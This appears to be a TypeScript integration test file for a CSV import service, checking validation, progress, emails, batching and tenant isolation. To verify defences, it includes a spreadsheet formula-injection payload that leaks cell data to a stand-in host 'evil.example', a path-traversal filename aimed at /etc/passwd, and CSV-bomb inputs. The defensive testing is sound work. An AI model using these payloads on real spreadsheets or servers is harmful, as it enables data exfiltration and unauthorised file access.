import { mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { JobProgress } from '../../../shared/schemas/realtime.ts';
import { withDbScope } from '../../platform/db/context.ts';
import { startSmtpCapture, type SmtpCapture } from '../../platform/mail/testing/smtp-capture.ts';
import { Worker } from '../../platform/queue/worker.ts';
import { addMember, callerAs, createOrg, createStaff, type TestOrg } from '../../test/factories.ts';
import { createTestEnv, startServer, type RunningServer, type TestEnv } from '../../test/harness.ts';
import { jobsChannel } from '../realtime/realtime.service.ts';
import { BusinessRecord } from '../records/record.entity.ts';
import { DataImport } from './import.entity.ts';

let env: TestEnv;
let server: RunningServer;
let smtp: SmtpCapture;
let worker: Worker;
let dir: string;

beforeAll(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'keel-imports-'));
  smtp = await startSmtpCapture();
  env = await createTestEnv({ STORAGE_LOCAL_DIR: dir, SMTP_URL: smtp.url });
  server = await startServer(env.deps);
  worker = new Worker(env.deps.queue, { queues: ['high', 'default', 'low', 'mail'], concurrency: 4 });
  await worker.start();
}, 60_000);
afterAll(async () => {
  await worker?.stop(2_000);
  await server?.close();
  await env?.close();
  await smtp?.close();
  await rm(dir, { recursive: true, force: true });
});

type Caller = Awaited<ReturnType<typeof callerAs>>;

async function until<T>(fn: () => Promise<T> | T, what: string, timeoutMs = 60_000): Promise<NonNullable<T>> {
  const end = Date.now() + timeoutMs;
  for (;;) {
    const v = await fn();
    if (v) return v;
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

/** Reserves an import and PUTs the bytes to the signed URL, as a browser would. */
async function upload(
  caller: Caller,
  filename: string,
  body: string | Buffer,
  size = Buffer.byteLength(body),
) {
  const { importId, uploadUrl } = await caller.imports.createUpload({ filename, size });
  const u = new URL(uploadUrl);
  const res = await fetch(`${server.url}${u.pathname}${u.search}`, {
    method: 'PUT',
    body: typeof body === 'string' ? body : new Uint8Array(body),
  });
  return { importId, status: res.status, body: (await res.json()) as unknown };
}

const importRow = (orgId: string, id: string) =>
  withDbScope(env.deps.em, orgId, (em) => em.findOneOrFail(DataImport, { id }));
const recordCount = (orgId: string) => withDbScope(env.deps.em, orgId, (em) => em.count(BusinessRecord, {}));
const settled = (orgId: string, id: string) =>
  until(async () => {
    const r = await importRow(orgId, id);
    return ['completed', 'invalid', 'failed'].includes(r.status) ? r : null;
  }, `import ${id}`);

async function progressOf(orgId: string, jobId: string): Promise<JobProgress[]> {
  const redis = env.deps.redis.get('publish');
  const entries = (await redis.xrange(env.deps.realtime.log.key(jobsChannel(orgId)), '-', '+')) as [
    string,
    string[],
  ][];
  return entries.map(([, f]) => JSON.parse(f[1]!) as JobProgress).filter((p) => p.jobId === jobId);
}

const HEADER = 'Email,Category,Status,Amount,Created At\n';
const goodRows = (email: string, n: number) =>
  Array.from(
    { length: n },
    (_, i) => `${email},"cat, ${i}",active,${i}.50,2026-01-0${(i % 9) + 1}T10:00:00Z\n`,
  ).join('');

describe('single import', () => {
  let org: TestOrg;
  let caller: Caller;
  beforeAll(async () => {
    org = await createOrg(env.deps);
    caller = await callerAs(env.deps, org.owner);
  });

  it('imports a valid file, reports progress and emails the requester', async () => {
    const before = smtp.messages.length;
    const { importId, status } = await upload(
      caller,
      'good.csv',
      HEADER + goodRows(org.owner.email, 12) + `,"Zoë ""quoted""\nline",pending,-3,\n`,
    );
    expect(status).toBe(201);
    await caller.imports.start({ importId });
    const done = await settled(org.id, importId);
    expect(done).toMatchObject({ status: 'completed', totalRows: 13, importedRows: 13, errorCount: 0 });
    expect(await recordCount(org.id)).toBe(13);
    const odd = await withDbScope(env.deps.em, org.id, (em) =>
      em.findOneOrFail(BusinessRecord, { amount: '-3.00' }),
    );
    expect(odd).toMatchObject({ category: 'Zoë "quoted"\nline', status: 'pending', user: null });
    await until(
      async () => (await progressOf(org.id, importId)).some((p) => p.status === 'completed'),
      'progress',
    );
    const mail = await until(
      () => smtp.messages.slice(before).find((m) => m.subject === 'Import of good.csv completed'),
      'mail',
    );
    expect(mail.to).toEqual([org.owner.email]);
  });

  it('the problem report writes a formula from the uploaded file as text (issue 17 finding 8)', async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
    const header = `Category,Status,Amount,"${formula.replace(/"/g, '""')}"`;
    const { importId } = await upload(caller, 'formula.csv', `${header}\nok,active,1.00,x\n`);
    await caller.imports.start({ importId });
    const done = await settled(org.id, importId);
    expect(done.status).toBe('invalid');
    expect(done.errors[0]?.column).toBe(formula);
    await until(async () => (await importRow(org.id, importId)).reportKey, 'report');
    const report = await caller.imports.report({ id: importId });
    const res = await fetch(`${server.url}${new URL(report.url).pathname}${new URL(report.url).search}`);
    const cells = parse(await res.text()) as string[][];
    expect(cells[0]).toEqual(['Line', 'Column', 'Reason']);
    expect(cells[1]?.[1]).toBe(`'${formula}`);
    for (const row of cells) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('a file with 3 bad rows reports exactly those rows and writes nothing', async () => {
    const before = smtp.messages.length;
    const start = await recordCount(org.id);
    const rows = [
      `${org.owner.email},ok,active,1.00,`,
      `${org.owner.email},ok,active,12.345,`, // line 3: amount
      `${org.owner.email},ok,active,2.00,`,
      `${org.owner.email},ok,active,3.00,`,
      `${org.owner.email},ok,archived,4.00,`, // line 6: status
      `${org.owner.email},ok,active,5.00,`,
      `${org.owner.email},ok,active,6.00,`,
      `stranger@example.test,ok,active,7.00,`, // line 9: not a member
      `${org.owner.email},ok,active,8.00,`,
    ];
    const { importId } = await upload(caller, 'bad.csv', HEADER + rows.join('\n') + '\n');
    await caller.imports.start({ importId });
    const done = await settled(org.id, importId);
    expect(done.status).toBe('invalid');
    expect(done.errorCount).toBe(3);
    expect(done.errors).toEqual([
      { line: 3, column: 'Amount', reason: expect.stringContaining('at most 2 decimals') },
      { line: 6, column: 'Status', reason: expect.stringContaining('must be one of') },
      { line: 9, column: 'Email', reason: 'is not a member of this organization' },
    ]);
    expect(await recordCount(org.id)).toBe(start);

    await until(async () => (await importRow(org.id, importId)).reportKey, 'report');
    const report = await caller.imports.report({ id: importId });
    const res = await fetch(`${server.url}${new URL(report.url).pathname}${new URL(report.url).search}`);
    const lines = (await res.text()).trim().split('\n');
    expect(lines[0]).toBe('Line,Column,Reason');
    expect(lines.slice(1).map((l) => l.split(',').slice(0, 2).join(','))).toEqual([
      '3,Amount',
      '6,Status',
      '9,Email',
    ]);
    const mail = await until(
      () => smtp.messages.slice(before).find((m) => m.subject === 'Import of bad.csv failed'),
      'mail',
    );
    expect(mail.decoded).toContain('line 3, Amount');
    expect(mail.decoded).toContain('/files/');
  });

  it('refuses a non-CSV file, an oversized one and wrong names with clear errors', async () => {
    const png = Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]),
      Buffer.alloc(200, 7),
    ]);
    const { importId } = await upload(caller, 'photo.csv', png);
    await expect(caller.imports.start({ importId })).rejects.toMatchObject({
      code: 'BAD_REQUEST',
      message: 'photo.csv is not a CSV text file (binary content)',
    });
    expect((await importRow(org.id, importId)).status).toBe('invalid');

    await expect(
      caller.imports.createUpload({ filename: 'huge.csv', size: 10 * 1024 * 1024 + 1 }),
    ).rejects.toMatchObject({
      code: 'BAD_REQUEST',
      message: expect.stringContaining('at most 10 MB'),
    });
    await expect(caller.imports.createUpload({ filename: 'tool.exe', size: 10 })).rejects.toMatchObject({
      message: expect.stringContaining('.csv or .txt'),
    });
    await expect(
      caller.imports.createUpload({ filename: '../../etc/passwd.csv', size: 10 }),
    ).rejects.toMatchObject({
      code: 'BAD_REQUEST',
    });
    // Declaring 100 bytes and sending 11 MB: the upload is cut off at the declared size.
    const big = await upload(caller, 'liar.csv', Buffer.alloc(11 * 1024 * 1024, 0x61), 100);
    expect(big.status).toBe(413);
    await expect(caller.imports.start({ importId: big.importId })).rejects.toMatchObject({
      message: expect.stringContaining('has not been uploaded'),
    });
  });

  it('refuses CSV bombs: a huge field, millions of columns, an endless header', async () => {
    const cases: [string, string, RegExp][] = [
      [
        'field.csv',
        `${HEADER}${org.owner.email},"${'x'.repeat(200_000)}",active,1,\n`,
        /line 2 is longer than 64 KB/,
      ],
      // A field spread over many short lines is caught by the parser's own record limit.
      [
        'lines.csv',
        `${HEADER}${org.owner.email},"${'x\n'.repeat(100_000)}",active,1,\n`,
        /larger than 64 KB/,
      ],
      ['columns.csv', `${HEADER}${','.repeat(3_000_000)}\n`, /line 2 is longer than 64 KB/],
      [
        'header.csv',
        `${Array.from({ length: 30 }, (_, i) => `c${i}`).join(',')}\n1\n`,
        /at most 20 are read/,
      ],
      ['quote.csv', `${HEADER}a,"never closed,active,1,\n`, /never closed/],
    ];
    for (const [name, body, reason] of cases) {
      const { importId, status } = await upload(caller, name, body);
      expect(status).toBe(201);
      await caller.imports.start({ importId });
      const done = await settled(org.id, importId);
      expect(done.status, name).toBe('invalid');
      expect(done.error, name).toMatch(reason);
      expect(done.errorCount).toBe(1);
    }
  });
});

describe('batch import', () => {
  it(
    '50 files with 2 bad ones: imports 48, reports 2, progress reaches 100 % and one summary is sent',
    { timeout: 120_000 },
    async () => {
      const org = await createOrg(env.deps);
      const caller = await callerAs(env.deps, org.owner);
      const ids: string[] = [];
      for (let i = 0; i < 50; i++) {
        const bad = i === 7 || i === 31;
        const body =
          HEADER + goodRows(org.owner.email, 4) + (bad ? `${org.owner.email},x,active,not-a-number,\n` : '');
        ids.push((await upload(caller, `part-${i}.csv`, body)).importId);
      }
      await expect(caller.imports.startBatch({ importIds: [...ids, ids[0]!] })).rejects.toMatchObject({
        code: 'BAD_REQUEST',
      });
      const before = smtp.messages.length;
      const { batchId } = await caller.imports.startBatch({ importIds: ids });
      const summary = await until(
        async () => {
          const s = await caller.imports.batch({ batchId });
          return s.finished === 50 ? s : null;
        },
        'batch',
        110_000,
      );
      expect(summary).toMatchObject({
        files: 50,
        completed: 48,
        invalid: 2,
        failed: 0,
        rows: 48 * 4,
        progress: 1,
      });
      expect(await recordCount(org.id)).toBe(48 * 4);
      const invalid = (await caller.imports.list({ batchId, status: 'invalid', limit: 50 })).items
        .map((i) => i.filename)
        .sort();
      expect(invalid).toEqual(['part-31.csv', 'part-7.csv']);
      const progress = await until(async () => {
        const p = await progressOf(org.id, batchId);
        return p.at(-1)?.status === 'completed' ? p : null;
      }, 'batch progress');
      expect(progress.at(-1)).toMatchObject({ kind: 'batch', progress: 1, processed: 50, total: 50 });
      const mail = await until(
        () => smtp.messages.slice(before).find((m) => m.subject.startsWith('Batch import')),
        'summary mail',
      );
      expect(mail.subject).toBe('Batch import: 48 of 50 files imported');
      expect(smtp.messages.slice(before).filter((m) => m.subject.startsWith('Batch import'))).toHaveLength(1);
    },
  );

  it('refuses a batch of more than 50 files, or with files not uploaded', async () => {
    const org = await createOrg(env.deps);
    const caller = await callerAs(env.deps, org.owner);
    await expect(
      caller.imports.startBatch({ importIds: Array.from({ length: 51 }, () => crypto.randomUUID()) }),
    ).rejects.toMatchObject({
      code: 'BAD_REQUEST',
    });
    const { importId } = await caller.imports.createUpload({ filename: 'later.csv', size: 10 });
    await expect(caller.imports.startBatch({ importIds: [importId] })).rejects.toMatchObject({
      code: 'BAD_REQUEST',
      message: '1 of the files cannot be imported',
    });
  });
});

describe('tenancy', () => {
  it('no import, report or upload of A is reachable from B', async () => {
    const a = await createOrg(env.deps);
    const b = await createOrg(env.deps);
    const callerA = await callerAs(env.deps, a.owner);
    const callerB = await callerAs(env.deps, b.owner);
    const { importId } = await upload(callerA, 'a.csv', `${HEADER}nobody@example.test,x,active,1,\n`);
    await expect(callerB.imports.start({ importId })).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await expect(callerB.imports.startBatch({ importIds: [importId] })).rejects.toMatchObject({
      code: 'NOT_FOUND',
    });
    await callerA.imports.start({ importId });
    await until(async () => (await importRow(a.id, importId)).reportKey, 'report');
    await expect(callerB.imports.get({ id: importId })).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await expect(callerB.imports.report({ id: importId })).rejects.toMatchObject({ code: 'NOT_FOUND' });
    expect((await callerB.imports.list()).items).toEqual([]);
    // B's members are not A's: an email of A's member is "not a member" in B's import.
    const memberOfA = await addMember(env.deps, a.id, 'member');
    const { importId: inB } = await upload(callerB, 'b.csv', `${HEADER}${memberOfA.email},x,active,1,\n`);
    await callerB.imports.start({ importId: inB });
    expect((await settled(b.id, inB)).errors).toEqual([
      { line: 2, column: 'Email', reason: 'is not a member of this organization' },
    ]);
  });
});

describe('ops listing', () => {
  it("staff page through every organization's imports, newest first, narrowed by organization and status", async () => {
    const a = await createOrg(env.deps);
    const b = await createOrg(env.deps);
    // Dated after every other test's rows, so that the unfiltered first page starts with these.
    const at = (minutes: number) => new Date(Date.now() + 3_600_000 + minutes * 60_000);
    const insert = (orgId: string, rows: { status: 'completed' | 'failed'; minutes: number }[]) =>
      withDbScope(env.deps.em, orgId, async (em) => {
        const made = rows.map(({ status, minutes }) =>
          em.create(DataImport, {
            organization: orgId,
            filename: `${minutes}.csv`,
            fileKey: `imports/${orgId}/${minutes}.csv`,
            maxBytes: 1_000,
            status,
            createdAt: at(minutes),
          }),
        );
        await em.flush();
        return made.map((r) => r.id);
      });
    const [a1, a2, a3] = await insert(a.id, [
      { status: 'completed', minutes: 1 },
      { status: 'failed', minutes: 3 },
      { status: 'completed', minutes: 5 },
    ]);
    const [b1] = await insert(b.id, [{ status: 'completed', minutes: 4 }]);

    const ops = await callerAs(env.deps, await createStaff(env.deps));
    const first = await ops.ops.files.imports({ limit: 3 });
    expect(first.items.map((i) => [i.id, i.organizationId])).toEqual([
      [a3, a.id],
      [b1, b.id],
      [a2, a.id],
    ]);
    expect(first.total).toBeGreaterThanOrEqual(4);

    const ofA = await ops.ops.files.imports({ organizationId: a.id });
    expect(ofA).toMatchObject({ total: 3, items: [{ id: a3 }, { id: a2 }, { id: a1 }] });
    const page2 = await ops.ops.files.imports({ organizationId: a.id, limit: 2, offset: 2 });
    expect(page2).toMatchObject({ total: 3, items: [{ id: a1 }] });
    const failedOfA = await ops.ops.files.imports({ organizationId: a.id, status: 'failed' });
    expect(failedOfA).toMatchObject({ total: 1, items: [{ id: a2, status: 'failed' }] });

    // Only staff: an owner asking for the cross-tenant listing, even of their own organization, is refused.
    const owner = await callerAs(env.deps, a.owner);
    await expect(owner.ops.files.imports({ organizationId: a.id })).rejects.toMatchObject({
      code: 'FORBIDDEN',
    });
    await expect(ops.ops.files.imports({ limit: 101 })).rejects.toMatchObject({ code: 'BAD_REQUEST' });
  });
});
